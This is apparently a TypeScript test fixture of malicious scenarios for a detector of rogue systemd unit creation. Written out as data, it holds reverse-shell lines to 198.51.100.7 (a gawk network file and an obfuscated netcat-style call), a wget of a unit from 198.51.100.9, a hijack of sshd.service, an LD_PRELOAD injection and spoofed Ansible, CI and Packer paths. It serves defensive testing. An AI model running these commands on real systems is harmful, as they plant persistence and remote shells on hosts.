import { ran, scenarios, wrote } from './scenario.ts';

const DIR = '/etc/systemd/system';
const X = `${DIR}/updater.service`;
const ENABLE = 'systemctl enable --now updater.service';
const ANSIBLE = '.ansible/tmp/ansible-tmp-1763911001.44-20817-1143/AnsiballZ_systemd.py';
const GUID = '2f0c8a1e-7f35-4e2b-9a61-0a5a7f7c9d10';

/** A reload or an act by way of `sh -c`. */
function shell(account: string, server: string, line: string, script = line) {
  return ran(account, line, 'sh', `sh -c ${script}`, server);
}

const applications = scenarios('malicious', 'application-rce', [
  ['an application account reloads below java', shell('appsvc', 'java', 'systemctl daemon-reload')],
  [
    'an application account enables below python',
    shell('webapp', 'python3.11', 'systemctl --user enable --now updater'),
  ],
  ['JBoss by a plain shell', ran('jboss', 'systemctl --user start updater', 'bash', '/bin/bash', 'java')],
  ['by sudo below PHP', ran('root', ENABLE, 'sudo', `sudo ${ENABLE}`, 'php-fpm8.2')],
  ['a package script below node', shell('dana', 'node', 'systemctl --user enable --now telemetry.service')],
  [
    'a notebook',
    ran(
      'jovyan',
      'systemctl --user enable updater',
      'bash',
      '/bin/bash -c systemctl --user enable updater',
      'python3',
    ),
  ],
  ['nobody below node', shell('nobody', 'node', 'systemctl link /opt/x.service')],
  ['a program without a name', ran('root', ENABLE, 'python3', '/proc/self/fd/3', 'bash')],
  [
    "gawk's network files",
    ran('root', ENABLE, 'sh', 'sh -c gawk BEGIN{s="/inet/tcp/0/198.51.100.7/443"}', 'java'),
  ],
  ['wildcards for a program', ran('root', ENABLE, 'sh', 'sh -c /???/n? 198.51.100.7 443', 'perl')],
]);

const persistence = scenarios('malicious', 'persistence', [
  [
    'installed from shared memory',
    wrote('root', X, 'install', `install -m 644 /dev/shm/x.service ${X}`, 'bash'),
  ],
  [
    'moved into the runtime directory',
    wrote(
      'root',
      '/run/systemd/system/x.service',
      'mv',
      'mv /var/tmp/x.service /run/systemd/system/x.service',
      'sh',
    ),
  ],
  ['decoded in a long form', wrote('root', X, 'sh', `sh -c base64 --decode /tmp/u.b64 > ${X}`, 'sh')],
  [
    'a payload put into a unit that is there',
    wrote(
      'root',
      `${DIR}/sshd.service`,
      'sed',
      `sed -i s|^ExecStart=.*|ExecStart=/var/tmp/sshd| ${DIR}/sshd.service`,
      'bash',
    ),
  ],
  ['wget from an address', wrote('root', X, 'wget', `wget -q http://198.51.100.9/x.service -O ${X}`, 'bash')],
  [
    'a here-document with a delimiter in quotes',
    wrote('root', X, 'bash', `bash -c cat > ${X} <<'E F'\n[Service]\nExecStart=/tmp/.x/run\nE F`, 'bash'),
  ],
  [
    'kdevtmpfsi',
    wrote('root', '/lib/systemd/system/bot.service', 'kdevtmpfsi', '/tmp/kdevtmpfsi', 'python3'),
  ],
]);

const spoofs = scenarios('malicious', 'spoof', [
  [
    "Ansible's module among the arguments of another script",
    ran('root', ENABLE, 'python3', `/usr/bin/python3 /opt/x.py /root/${ANSIBLE}`, 'sh'),
  ],
  [
    "Ansible's path with letters of another size",
    ran('root', ENABLE, 'python3', `/usr/bin/python3 /root/${ANSIBLE.replace('.ansible', '.Ansible')}`, 'sh'),
  ],
  ['Ansible on a python in /tmp', ran('root', ENABLE, 'python3', `/tmp/python3 /root/${ANSIBLE}`, 'sh')],
  [
    "a web server's account runs a module of another's home",
    ran(
      'www-data',
      'systemctl --user enable updater',
      'python3',
      `/usr/bin/python3 /home/deploy/${ANSIBLE}`,
      'sh',
    ),
  ],
  [
    'GitHub Actions below /tmp',
    ran(
      'runner',
      'systemctl --user enable updater',
      'bash',
      `bash -e /tmp/work/_temp/${GUID}.sh`,
      'Runner.Worker',
    ),
  ],
  [
    'GitHub Actions under the account of a web server',
    ran(
      'www-data',
      'systemctl --user enable updater',
      'bash',
      `bash -e /home/runner/work/_temp/${GUID}.sh`,
      'Runner.Worker',
    ),
  ],
  [
    'deb-systemd-invoke in /tmp',
    ran(
      'root',
      'systemctl --system start updater',
      'perl',
      '/usr/bin/perl /tmp/deb-systemd-invoke start updater',
      'updater.postinst',
    ),
  ],
  [
    'a layer that is left by dots',
    wrote(
      'root',
      '/var/lib/docker/overlay2/x/merged/../../../../../../etc/systemd/system/x.service',
      'cp',
      `cp /tmp/x.service ${DIR}/x.service`,
      'bash',
    ),
  ],
  [
    'Packer with a preload',
    ran(
      'root',
      ENABLE,
      'python3',
      'LD_PRELOAD=/opt/x.so PACKER_BUILD_NAME=x python3 /tmp/script_1.sh',
      'sshd-session',
    ),
  ],
  [
    'Packer under the account of a database',
    ran('postgres', ENABLE, 'sh', '/bin/sh /tmp/script_4711.sh', 'sshd-session'),
  ],
]);

/** Attacks in other forms: accounts, languages, notations, disguises. */
export const maliciousFormScenarios = [...applications, ...persistence, ...spoofs];
